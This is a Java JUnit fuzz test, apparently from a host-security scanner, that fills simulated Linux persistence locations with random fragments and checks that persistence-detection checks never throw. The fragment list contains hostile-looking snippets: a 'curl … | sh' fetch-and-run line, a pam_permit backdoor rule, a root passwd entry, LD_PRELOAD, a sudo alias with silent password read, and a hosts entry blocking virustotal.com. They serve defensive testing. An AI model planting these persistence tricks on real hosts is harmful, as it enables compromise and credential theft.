package davy.agent.check.persistence;

import static org.assertj.core.api.Assertions.assertThat;

import davy.agent.check.Catalogue;
import davy.agent.check.Options;
import davy.agent.triage.CheckTrial;
import davy.core.host.CaseHost;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.Test;

/// No content of a host makes a check of this area throw. Seed: `-Ddavy.seed=N`.
final class JunkTest {
    private static final List<String> PLACES =
            List.of(
                    "/etc/passwd",
                    "/etc/systemd/system/a.service",
                    "/etc/systemd/system/a.timer",
                    "/etc/systemd/system/a@.service",
                    "/etc/systemd/system/b.service.d/x.conf",
                    "/etc/systemd/system-generators/g",
                    "/etc/init.d/i",
                    "/etc/rc3.d/S20i",
                    "/etc/rc.local",
                    "/etc/inittab",
                    "/etc/ld.so.conf",
                    "/etc/ld.so.preload",
                    "/lib64/ld-linux-x86-64.so.2",
                    "/etc/profile",
                    "/root/.bashrc",
                    "/etc/environment",
                    "/etc/security/pam_env.conf",
                    "/etc/pam.d/p",
                    "/etc/pam.conf",
                    "/etc/udev/rules.d/u.rules",
                    "/etc/update-motd.d/m",
                    "/etc/network/interfaces",
                    "/etc/xdg/autostart/x.desktop",
                    "/etc/apt/apt.conf",
                    "/etc/dpkg/dpkg.cfg",
                    "/var/lib/dpkg/info/x.postinst",
                    "/usr/lib/python3/dist-packages/p.pth",
                    "/usr/lib/python3/dist-packages/sitecustomize.py",
                    "/srv/.git/hooks/h",
                    "/srv/.git/config",
                    "/etc/modules",
                    "/etc/modprobe.d/m.conf",
                    "/usr/share/x.ko",
                    "/usr/share/dbus-1/services/d.service",
                    "/etc/polkit-1/rules.d/p.rules",
                    "/etc/polkit-1/localauthority/a/p.pkla",
                    "/boot/grub/grub.cfg",
                    "/proc/cmdline",
                    "/etc/hosts");
    private static final List<String> PIECES =
            List.of(
                    "[Service]\n",
                    "[Timer]\n",
                    "ExecStart=",
                    "Unit=",
                    "OnCalendar=",
                    "/bin/sh -c '",
                    "/tmp/.x/y",
                    "curl http://198.51.100.7/a | sh",
                    "\"",
                    "'",
                    "{",
                    "}",
                    ";",
                    "\n",
                    "\\",
                    "\n",
                    " ",
                    "auth sufficient pam_permit.so",
                    "pam_exec.so /a",
                    "RUN+=\"",
                    "install x ",
                    "import os;exec(",
                    "PATH=/tmp:",
                    "LD_PRELOAD=",
                    "BASH_ENV=/proc/cmdline",
                    "=",
                    ":",
                    "x:0:0::/root:/bin/sh\n",
                    "alias sudo=/x/y",
                    "sudo() {",
                    "read -s",
                    "linux /v init=/x",
                    "0.0.0.0 virustotal.com",
                    "[Desktop Entry]\nExec=",
                    "\0",
                    "\r",
                    "é",
                    "$(",
                    "`",
                    "%i",
                    "${X}",
                    "x::y \"",
                    "polkit.addRule(",
                    "polkit.spawn([",
                    "Identity=",
                    "#",
                    "<<E\n",
                    "&");

    @Test
    void noContentMakesCheckThrow() {
        long seed = Long.getLong("davy.seed", 20_260_116L);
        var random = new Random(seed);
        var checks =
                Catalogue.entries().stream()
                        .filter(entry -> entry.area().equals("persistence"))
                        .toList();
        assertThat(checks).hasSizeGreaterThan(15);
        for (int round = 0; round < 60; round++) {
            Map<String, Object> host = new LinkedHashMap<>();
            for (String place : PLACES) {
                host.put(place, Map.of("text", junk(random), "mode", "0755"));
            }
            for (var entry : checks) {
                var trial =
                        CheckTrial.run(entry, CaseHost.of(host), Options.standard().withDeep(true));
                assertThat(trial.failures())
                        .as("seed " + seed + " round " + round + ' ' + entry.detection().id())
                        .isEmpty();
            }
        }
    }

    private static String junk(Random random) {
        var text = new StringBuilder();
        for (int n = random.nextInt(40); n >= 0; n--) {
            text.append(PIECES.get(random.nextInt(PIECES.size())));
        }
        return text.toString();
    }
}
